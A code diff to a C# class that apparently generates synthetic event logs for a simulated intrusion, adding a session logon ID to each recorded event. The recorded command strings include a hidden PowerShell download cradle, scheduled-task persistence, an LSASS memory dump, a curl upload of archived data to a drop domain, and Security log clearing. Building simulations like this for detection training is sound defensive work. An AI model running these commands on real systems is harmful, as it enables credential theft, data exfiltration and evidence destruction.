@@ -29,6 +29,9 @@ public sealed class Stages(
 
     string User => $@"{Company.NetBios}\{Victim.Account}";
 
+    /// <summary>The victim's own session of the first day: what the implant does, it does in it.</summary>
+    string Session => life.SessionOf(Victim.Account);
+
     string StolenAccount => Company.Admin.Account + "-adm";
 
     public void Play()
@@ -119,7 +122,8 @@ public sealed class Stages(
             $"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{Victim.Account}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8QX2K1\\{scenario["attachment"]}\"",
             User,
             null,
-            @"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
+            @"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
+            logonId: Session
         );
         var cradle =
             $"IEX (New-Object Net.WebClient).DownloadString('http://{scenario["staging_domain"]}/u.ps1')";
@@ -129,7 +133,8 @@ public sealed class Stages(
             PowerShell,
             $"powershell.exe -nop -w hidden -enc {Convert.ToBase64String(Encoding.Unicode.GetBytes(cradle))}",
             User,
-            word
+            word,
+            logonId: Session
         );
         recorder.ScriptBlock(machine, time.AddSeconds(10), shell.Pid, cradle);
         recorder.Lookup(
@@ -167,7 +172,8 @@ public sealed class Stages(
             $@"C:\Users\{Victim.Account}\AppData\Roaming\wct\wct.exe",
             "wct.exe",
             User,
-            shell
+            shell,
+            logonId: Session
         );
     }
 
@@ -213,13 +219,14 @@ public sealed class Stages(
             @"C:\Windows\System32\schtasks.exe",
             $@"schtasks /create /tn {scenario["task"]} /tr ""powershell -w hidden -c iex(gc $env:APPDATA\wct\r.txt -raw)"" /sc onlogon /f",
             User,
-            _implant
+            _implant,
+            logonId: Session
         );
         recorder.TaskCreated(
             Victim.Workstation,
             time.AddSeconds(1),
             Victim.Account,
-            "0x3e7",
+            Session,
             scenario["task"],
             "powershell",
             @"-w hidden -c iex(gc $env:APPDATA\wct\r.txt -raw)"
@@ -243,7 +250,8 @@ public sealed class Stages(
             @"C:\Windows\System32\cmd.exe",
             "cmd.exe",
             User,
-            _implant
+            _implant,
+            logonId: Session
         );
         foreach (var command in commands)
         {
@@ -254,7 +262,8 @@ public sealed class Stages(
                 $@"C:\Windows\System32\{command.Split(' ')[0]}.exe",
                 command,
                 User,
-                cmd
+                cmd,
+                logonId: Session
             );
         }
     }
@@ -269,6 +278,7 @@ public sealed class Stages(
             @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 668 C:\ProgramData\wct\l.bin full",
             User,
             _implant,
+            logonId: Session,
             integrity: "High"
         );
         recorder.Opened(
@@ -384,7 +394,8 @@ public sealed class Stages(
             @"C:\ProgramData\wct\rar.exe",
             @"rar.exe a -r -m5 -v100m -hpS1lver!Tide C:\ProgramData\wct\f.rar C:\ProgramData\wct\stage\",
             User,
-            _implant
+            _implant,
+            logonId: Session
         );
         for (var part = 1; part <= 5; part++)
         {
@@ -404,7 +415,8 @@ public sealed class Stages(
             @"C:\Windows\System32\curl.exe",
             $"curl.exe -s -T C:\\ProgramData\\wct\\f.part1.rar https://{scenario["drop_domain"]}/u/7c1e",
             User,
-            _implant
+            _implant,
+            logonId: Session
         );
         recorder.Lookup(
             Victim.Workstation,
@@ -438,6 +450,7 @@ public sealed class Stages(
             "wevtutil cl Security",
             User,
             _implant,
+            logonId: Session,
             integrity: "High"
         );
         recorder.LogCleared(Victim.Workstation, time.AddSeconds(1), Victim.Account);
